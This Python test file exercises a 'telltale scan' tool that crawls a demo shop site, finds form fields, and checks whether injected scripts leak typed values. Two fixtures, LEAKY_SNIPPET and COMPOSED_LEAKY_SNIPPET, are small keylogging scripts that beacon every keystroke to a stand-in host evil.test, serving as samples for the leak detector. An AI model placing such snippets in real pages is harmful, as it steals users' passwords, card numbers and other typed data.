"""``telltale scan``: the crawl, the fields it finds, the scenarios it writes and their runs, on the demo site."""

from __future__ import annotations

import io
import json
import re
import socket
from pathlib import Path

import pytest
import yaml
from playwright.sync_api import Page

from harness.capture.proxy import CaptureProxy
from harness.capture.routing import Routing
from harness.capture.site import Site
from harness.cli import ExitStatus, main
from harness.pipeline import CA_DIR
from harness.run.scenario import CANARY_KINDS
from harness.scan import fields
from harness.scan.crawl import PageFound, _why_not_follow, crawl
from harness.scan.fields import Choice, Field, Form, canary_kind
from harness.scan.plan import plan
from harness.scan.scenario_yaml import scenario_document
from harness.scan.summary import summary_lines
from tests.apps.fixtures import shop_app  # noqa: F401 - the fixture, by name
from tests.apps.shop_app import ShopApp

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"

# As tests/test_cli.py's, reading a contenteditable's text too: it sends every keystroke's whole value.
LEAKY_SNIPPET = """
addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value || e.target.textContent),
                 true);
"""


def _main(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = main(list(argv), out, err)
    return status, out.getvalue(), err.getvalue()


def _verdicts(report: Path) -> dict[str, tuple[str, frozenset[tuple[str, str, bool]]]]:
    """Each run's status and its findings' rule, field and whether the form was ever submitted, by scenario slug."""
    runs = json.loads((report / "results.json").read_text())["runs"]
    return {run["slug"]: (run["status"], frozenset((f["rule"], f["field"], "never submitted" in f["when"])
                                                   for f in run["findings"])) for run in runs}


def test_scan_finds_frame_shadow_and_contenteditable_fields_and_its_scenarios_replay(tmp_path: Path) -> None:
    snippet = tmp_path / "leaky.js"
    snippet.write_text(LEAKY_SNIPPET)
    report = tmp_path / "scan"
    common = ["--snippet", str(snippet), "--site", str(SITE), "--observation-window", "1"]
    status, out, err = _main("scan", "https://shop.test/index.html", "--pages", "4", "--depth", "1",
                             "--report", str(report), *common)
    assert status == ExitStatus.CHECK_FAILED, out + err
    assert "page 4:" in out and "page 5:" not in out, out  # --pages bounds the crawl
    assert "https://shop.test/index.html: no forms" in out, out  # a page without forms is reported, not an error
    written = {p.name: yaml.safe_load(p.read_text()) for p in (report / "scenarios").glob("*.yaml")}
    typed = {step["type"]["selector"] for doc in written.values() for step in doc["steps"] if "type" in step}
    assert typed >= {"#q", "#message", "#note", "#newsletter-frame >> internal:control=enter-frame >> #nl-email",
                     "#profile-card >> #shadow-nickname"}, typed
    assert all(doc["steps"][-1] == {"leave": "close"} for doc in written.values())  # abandoned: never submitted
    scanned = _verdicts(report)
    assert len(scanned) == len(written) == 5
    leaked = {field for _, findings in scanned.values() for _, field, _ in findings}
    assert {"#q", "#message", "#note", "#newsletter-frame >> internal:control=enter-frame >> #nl-email"} <= leaked
    # The generated scenarios are kept as regression tests: `telltale run` replays them to the same verdicts.
    replay = tmp_path / "replay"
    status, out, err = _main("run", str(report / "scenarios"), "--report", str(replay), *common)
    assert status == ExitStatus.CHECK_FAILED, out + err
    assert _verdicts(replay) == scanned


def test_a_scanned_spa_form_finds_the_same_leaks_as_its_hand_written_scenario(tmp_path: Path) -> None:
    snippet = tmp_path / "leaky.js"
    snippet.write_text(LEAKY_SNIPPET)
    common = ["--snippet", str(snippet), "--site", str(SITE), "--observation-window", "1"]
    _main("scan", "https://shop.test/contact.html", "--depth", "0", "--submit", "--report", str(tmp_path / "scan"),
          *common)
    _main("run", str(SITE.parent / "contact_spa.yaml"), "--report", str(tmp_path / "run"), *common)
    scanned, written = _verdicts(tmp_path / "scan"), _verdicts(tmp_path / "run")
    assert scanned["scan-contact-contact-form-submit"] == written["contact_spa"]
    assert written["contact_spa"][1], written  # the leaky snippet was caught at all


def test_scan_with_submit_tests_each_form_twice_and_reveals_the_password(tmp_path: Path) -> None:
    report = tmp_path / "scan"
    status, out, err = _main("scan", "https://shop.test/login.html", "--depth", "0", "--submit", "--no-snippet",
                             "--site", str(SITE), "--report", str(report), "--observation-window", "0")
    runs = json.loads((report / "results.json").read_text())["runs"]
    assert sorted(run["slug"] for run in runs) == ["scan-login-login-form-abandon", "scan-login-login-form-submit"]
    assert "form #login-form: 2 field(s), 1 sensitive: abandon " in out, out
    submitted = yaml.safe_load((report / "scenarios" / "scan-login-login-form-submit.yaml").read_text())
    assert {"click": "#show-password"} in submitted["steps"] and {"submit": "#login-form"} in submitted["steps"]
    assert submitted["secrets"] == {"email": "{canary:email}", "password": "{canary:password}"}
    assert (report / "manifest.json").is_file() and (report / "junit.xml").is_file()
    assert status in (ExitStatus.OK, ExitStatus.CHECK_FAILED), out + err  # the site alone sends nothing: inconclusive


def test_scan_finds_the_forms_of_a_real_app_through_its_real_origin(tmp_path: Path, shop_app: ShopApp) -> None:  # noqa: F811
    before = len(shop_app.requests)
    report = tmp_path / "scan"
    status, out, err = _main("scan", shop_app.base_url + "/leaky", "--depth", "0", "--no-snippet",
                             "--observation-window", "1", "--report", str(report))
    assert status == ExitStatus.CHECK_FAILED, out + err
    (run,) = json.loads((report / "results.json").read_text())["runs"]
    assert run["status"] == "failed" and {f["party"] for f in run["findings"]} == {"third"}, out
    # The crawl and the run both loaded the page from the app itself, through the capturing proxy.
    served = [(r.method, r.path) for r in shop_app.requests[before:]]
    assert served.count(("GET", "/leaky")) >= 2, served


def test_an_unreachable_url_is_one_line_and_exit_3(tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    status, out, err = _main("scan", f"http://127.0.0.1:{port}/", "--report", str(tmp_path / "r"))
    assert status == ExitStatus.ENVIRONMENT
    assert err.count("\n") == 1 and f"http://127.0.0.1:{port} is unreachable" in err, err


@pytest.mark.parametrize("argv", [["scan", "shop.test"], ["scan", "https://shop.test/", "--pages", "0"]])
def test_bad_scan_options_are_one_line_and_exit_2(argv: list[str]) -> None:
    status, out, err = _main(*argv)
    assert status == ExitStatus.INVALID_INPUT and err.count("\n") == 1, err


@pytest.mark.parametrize(("attributes", "kind"), [
    ({"type": "email"}, "email"), ({"autocomplete": "current-password"}, "password"), ({"type": "tel"}, "phone"),
    ({"autocomplete": "cc-number"}, "card"), ({"id": "card"}, "card"), ({"autocomplete": "cc-csc"}, "pin"),
    ({"autocomplete": "one-time-code"}, "otp"), ({"name": "full-name"}, "name"), ({"id": "message"}, "text"),
    ({"label": "Your message, printed on the card"}, "text"), ({"label": "Card number"}, "card"),
])
def test_each_field_gets_a_canary_of_its_kind(attributes: dict[str, str], kind: str) -> None:
    raw: fields._RawField = {"selector": "#f", "host": "", "tag": "input", "type": "", "editable": False,
                             "autocomplete": "", "id": "", "name": "", "label": "", "form": "", "form_action": "",
                             "sensitive": False, "reason": "", "unfillable": ""}
    raw.update(attributes)  # type: ignore[typeddict-item]
    assert canary_kind(raw) == kind


def test_every_kind_a_field_can_get_is_a_scenario_canary() -> None:
    tables = (fields._AUTOCOMPLETE_KINDS, fields._NAME_KINDS, fields._LABEL_KINDS)
    kinds = {kind for table in tables for _, kind in table} | set(fields._TYPE_KINDS.values()) | {fields.DEFAULT_KIND}
    assert kinds <= set(CANARY_KINDS)


@pytest.mark.parametrize(("url", "text", "followed"), [
    ("https://shop.test/account/logout", "", False), ("https://shop.test/a", "Sign out", False),
    ("https://shop.test/delete-account", "", False), ("https://shop.test/guide.pdf", "", False),
    ("https://shop.test/login.html", "Sign in", True),
])
def test_logout_like_and_non_html_links_are_not_followed(url: str, text: str, followed: bool) -> None:
    assert (_why_not_follow(url, text, "https://shop.test/") == "") is followed


def test_a_form_no_field_of_which_can_be_filled_is_reported_with_why() -> None:
    upload = Field("#cv", "CV", "text", False, "plain: typed text", "a file input: nothing to type")
    email = Field("#email", "E-mail", "email", False, "plain: typed text")
    country = Choice("#country", "Country", "select", "GB")
    terms = Choice("#terms", "Terms", "check", unfillable="not visible")
    pages = [PageFound("https://shop.test/a.html", 0, (Form("#apply", "", (upload,), choices=(country,)),)),
             PageFound("https://shop.test/b.html", 1, (Form("#sign", "", (email, upload), choices=(country, terms)),))]
    targets, untested = plan(pages)
    assert [(t.form.key, t.strategy) for t in targets] == [("#sign", "abandon")]
    lines = summary_lines(pages, targets, untested, {targets[0].slug: "failed"})
    assert "  form #apply: 1 field(s), 0 sensitive: not tested: no field can be filled (#cv: a file input: nothing " \
           "to type)" in lines
    assert lines[-4:] == ["  form #sign: 2 field(s), 0 sensitive: abandon failed",
                          "    #cv: cannot be filled: a file input: nothing to type",
                          "    #country: choose 'GB'", "    #terms: cannot check: not visible"]
    steps = scenario_document(targets[0])["steps"]
    assert {"select": {"selector": "#country", "value": "GB"}} in steps  # type: ignore[operator]
    assert {"check": "#terms"} not in steps  # type: ignore[operator]


def test_a_form_listed_safe_is_submitted_without_the_flag_and_stand_alone_fields_never_are() -> None:
    email = Field("#q", "Search", "text", False, "plain: typed text")
    pages = [PageFound("https://shop.test/s.html", 0, (Form("#search-form", "", (email,)), Form("", "", (email,)),
                                                       Form("#login-form", "", (email,))))]
    targets, _ = plan(pages, submit=False, safe=["#search-form"])
    assert [(t.form.key, t.strategy) for t in targets] == [
        ("#search-form", "abandon"), ("#search-form", "submit"), ("", "abandon"), ("#login-form", "abandon")]
    targets, _ = plan(pages, submit=True)
    assert [t.strategy for t in targets] == ["abandon", "submit", "abandon", "abandon", "submit"]



def test_scan_helps_with_examples_and_exit_statuses() -> None:
    status, out, _ = _main("scan", "--help")
    assert status == ExitStatus.OK and "examples:" in out and "exit status:" in out and "--submit" in out


@pytest.mark.only_browser("chromium")
def test_scan_runs_where_a_sync_playwright_is_already_running(tmp_path: Path, page: Page) -> None:
    """pytest-playwright's `page` keeps a sync Playwright (an asyncio loop) running on this thread, as an
    application embedding the harness may: the scan's browser runs in a thread of its own, so it still works."""
    page.set_content("<p>a page of the test's own</p>")
    status, out, err = _main("scan", "https://shop.test/search.html", "--pages", "1", "--depth", "0",
                             "--no-snippet", "--site", str(SITE), "--report", str(tmp_path / "scan"),
                             "--observation-window", "0")
    assert "asyncio loop" not in out + err and "Traceback" not in out + err, out + err
    assert "page 1:" in out and (tmp_path / "scan" / "results.json").is_file(), out + err


# LEAKY_SNIPPET, reading the field an event came from inside a shadow root (its target is the shadow host).
COMPOSED_LEAKY_SNIPPET = """
addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.composedPath()[0].value), true);
"""
ORDER_PAGE = """<!doctype html><title>Order</title>
<form id="order-form" action="/done.html" method="post"><!-- validated: the browser refuses an incomplete form -->
  <label for="buyer">Your name</label><input id="buyer" name="buyer" required>
  <select id="size" name="size" required><option value="" disabled selected>Choose a size</option>
    <option value="s" disabled>S (sold out)</option><option value="m">M</option><option value="l">L</option></select>
  <input type="radio" name="ship" value="std" required><input type="radio" name="ship" value="fast" required>
  <label><input id="terms" name="terms" type="checkbox" required> I accept the terms</label>
  <label><input id="news" name="news" type="checkbox"> Send me news</label>
  <button>Buy</button>
</form>
<iframe id="side" src="/side.html"></iframe>
<div id="card"></div>
<script>document.getElementById("card").attachShadow({mode: "open"}).innerHTML = '<input id="nick" aria-label="Nickname">';</script>
"""


def test_scan_in_firefox_makes_each_choice_and_reaches_frame_and_shadow_fields(tmp_path: Path) -> None:
    """A validated form submits only once an option, a radio and the terms are chosen; Firefox (where the snippet
    reaches frames by harness/run/inject.py) finds the iframe's and the shadow root's fields and their leaks."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "order.html").write_text(ORDER_PAGE)
    (site / "side.html").write_text('<!doctype html><input id="side-email" type="email" aria-label="E-mail">')
    (site / "done.html").write_text("<!doctype html><p>Thank you</p>")
    snippet = tmp_path / "leaky.js"
    snippet.write_text(COMPOSED_LEAKY_SNIPPET)
    report = tmp_path / "scan"
    status, out, err = _main("scan", "https://shop.test/order.html", "--depth", "0", "--submit", "--browser", "firefox",
                             "--snippet", str(snippet), "--site", str(site), "--observation-window", "1",
                             "--report", str(report))
    assert status == ExitStatus.CHECK_FAILED, out + err
    submitted = yaml.safe_load((report / "scenarios" / "scan-order-order-form-submit.yaml").read_text())
    choices = [step for step in submitted["steps"] if "select" in step or "check" in step]
    assert choices == [{"select": {"selector": "#size", "value": "m"}},
                       {"check": 'input[name="ship"][value="std"]'}, {"check": "#terms"}], submitted["steps"]
    assert list(submitted["secrets"]) == ["buyer"]  # choices are not canaries
    assert "    #size: choose 'm'" in out and "    #terms: check" in out and "#news" not in out, out
    runs = {run["slug"]: run for run in json.loads((report / "results.json").read_text())["runs"]}
    assert runs["scan-order-order-form-submit"]["status"] == "failed", runs["scan-order-order-form-submit"]["error"]
    leaked = {f["field"] for run in runs.values() for f in run["findings"]}
    assert leaked == {"#buyer", "#side >> internal:control=enter-frame >> #side-email", "#card >> #nick"}, leaked


def test_a_crawl_of_the_demo_site_finds_every_form_and_stand_alone_field() -> None:
    """Every form of the site's pages (their ``<form id>``s, read from the HTML), the frame's, the shadow root's
    field and the contenteditable note, from the home page with the default bounds."""
    start = "https://shop.test/index.html"
    found = crawl(start, Routing(Site(SITE)).including([start]), "chromium", 20, 2, CaptureProxy.shared(CA_DIR))
    forms = {form.key for page in found.pages for form in page.forms if form.key}
    in_html = {f"#{key}" for page in SITE.glob("*.html") for key in re.findall(r'<form[^>]* id="([^"]+)"', page.read_text())}
    assert len(in_html) == 8 and forms == in_html, (forms, in_html)
    alone = {field.selector for page in found.pages for form in page.forms if not form.key for field in form.fields}
    assert alone == {"#note", "#profile-card >> #shadow-nickname"}, alone
    framed = [form for page in found.pages for form in page.forms if form.frame]
    assert [form.selector for form in framed] == ["#newsletter-frame >> internal:control=enter-frame >> #newsletter-form"]
    assert not [page.problems for page in found.pages if page.problems] and not found.skipped
